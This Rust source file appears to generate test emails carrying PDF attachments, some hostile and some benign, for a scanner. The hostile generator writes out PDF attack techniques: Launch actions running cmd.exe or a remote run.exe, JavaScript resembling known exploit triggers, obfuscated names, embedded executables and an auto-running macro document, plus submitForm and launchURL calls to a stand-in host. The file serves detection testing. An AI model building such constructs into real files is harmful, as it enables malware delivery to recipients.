//! PDF.

use crate::{
    dice::Dice,
    samples::{mail, package, pdf, pdf_stream, program, project},
};

const PAGES: &str = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
const PAGE: &str = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>";

/// A document whose catalogue has these entries, with more objects from number 4 on.
fn document(catalogue: &str, more: Vec<Vec<u8>>) -> Vec<u8> {
    let mut objects = vec![
        format!("<< /Type /Catalog /Pages 2 0 R {catalogue} >>").into_bytes(),
        PAGES.into(),
        PAGE.into(),
    ];
    objects.extend(more);
    pdf(&objects)
}

/// A name with some of its characters in digits.
fn in_digits(dice: &mut Dice, name: &str) -> String {
    name.bytes()
        .map(|byte| {
            if dice.coin() {
                format!("#{byte:02x}")
            } else {
                char::from(byte).to_string()
            }
        })
        .collect()
}

pub(super) fn acting(dice: &mut Dice) -> Vec<u8> {
    let stem = dice.word();
    let script = dice.pick(&[
        "this.exportDataObject({ cName: 'a', nLaunch: 2 });",
        "app.launchURL('http://nowhere.example/a', true);",
        "var a = unescape('%u4141%u4141%u4141%u4141%u4141%u4141%u4141%u4141%u4141'); Collab.getIcon(a);",
        "eval(String.fromCharCode(97,112,112,46,98,101,101,112,40,48,41));",
        "util.printf('%45000f', 1.2);",
        "this.submitForm({ cURL: 'http://nowhere.example/b' });",
    ]);
    let content = match dice.number(0..8) {
        0 => document(
            "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c echo) >> >>",
            vec![],
        ),
        1 => document(
            "/OpenAction 4 0 R",
            vec![b"<< /S /Launch /F (\\\\\\\\files.nowhere.example\\\\a\\\\run.exe) >>".to_vec()],
        ),
        2 => document(
            &format!(
                "/OpenAction << /S /JavaScript /JS ({}) >>",
                script.replace('(', "\\(").replace(')', "\\)")
            ),
            vec![],
        ),
        3 => document(
            "/Names << /JavaScript << /Names [(a) 4 0 R] >> >>",
            vec![
                b"<< /S /JavaScript /JS 5 0 R >>".to_vec(),
                pdf_stream("", script.as_bytes()),
            ],
        ),
        4 => {
            let (open, java) = (in_digits(dice, "OpenAction"), in_digits(dice, "JavaScript"));
            document(
                &format!("/{open} << /S /{java} /JS <{}> >>", hex::encode(script)),
                vec![],
            )
        }
        5 => {
            // The action in a stream of objects.
            let object = format!(
                "<< /S /JavaScript /JS ({}) >>",
                script.replace('(', "\\(").replace(')', "\\)")
            );
            let packed = format!("9 0 {object}");
            document(
                "/OpenAction 9 0 R",
                vec![pdf_stream("/Type /ObjStm /N 1 /First 4", packed.as_bytes())],
            )
        }
        6 => document(
            "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
            vec![
                format!("<< /Type /Filespec /F ({stem}.exe) /EF << /F 5 0 R >> >>").into_bytes(),
                pdf_stream("/Type /EmbeddedFile", &program()),
            ],
        ),
        _ => {
            let inner = package(
                "word",
                &[(
                    "word/vbaProject.bin",
                    &project(&["Sub AutoOpen()\nShell \"notes\"\nEnd Sub"], ""),
                )],
            );
            document(
                "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >> /OpenAction << /S /JavaScript /JS (this.exportDataObject\\({cName:\"a\", nLaunch:2}\\)) >>",
                vec![
                    format!("<< /Type /Filespec /F ({stem}.docm) /EF << /F 5 0 R >> >>").into_bytes(),
                    pdf_stream("/Type /EmbeddedFile", &inner),
                ],
            )
        }
    };
    mail(dice.sentence(), &[(&format!("{stem}.pdf"), &content)])
}

pub(super) fn harmless(dice: &mut Dice) -> Vec<u8> {
    let stem = dice.word();
    let content = match dice.number(0..8) {
        0 => document("", vec![pdf_stream("", b"BT /F1 12 Tf (Plan) Tj ET")]),
        1 => document(
            "/AcroForm << /Fields [4 0 R] >>",
            vec![b"<< /FT /Tx /T (sum) /AA << /F << /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, \"\", true\\);) >> /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2, 0, 0, 0, \"\", true\\);) >> >> >>".to_vec()],
        ),
        2 => document("/OpenAction << /S /JavaScript /JS (this.print\\(true\\);) >>", vec![]),
        3 => document("/OpenAction [3 0 R /XYZ null null 0]", vec![]),
        4 => document(
            "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
            vec![b"<< /Type /Filespec /F (factur-x.xml) /EF << /F 5 0 R >> >>".to_vec(), pdf_stream("/Type /EmbeddedFile /Subtype /text#2Fxml", b"<?xml version=\"1.0\"?><Invoice/>")],
        ),
        5 => document(
            "/AcroForm << /Fields [4 0 R] >>",
            vec![b"<< /FT /Btn /T (send) /A << /S /SubmitForm /F << /FS /URL /F (https://partner.example/answers) >> >> >>".to_vec()],
        ),
        6 => document("", vec![format!("<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://{stem}.partner.example/) >> >>").into_bytes()]),
        _ => document("", vec![b"<< /Type /Annot /Subtype /Link /A << /S /GoToR /F (appendix.pdf) /D [0 /Fit] >> >>".to_vec(), b"<< /Type /Annot /A << /S /Launch /F (drawings.dwg) >> >>".to_vec()]),
    };
    mail(dice.sentence(), &[(&format!("{stem}.pdf"), &content)])
}
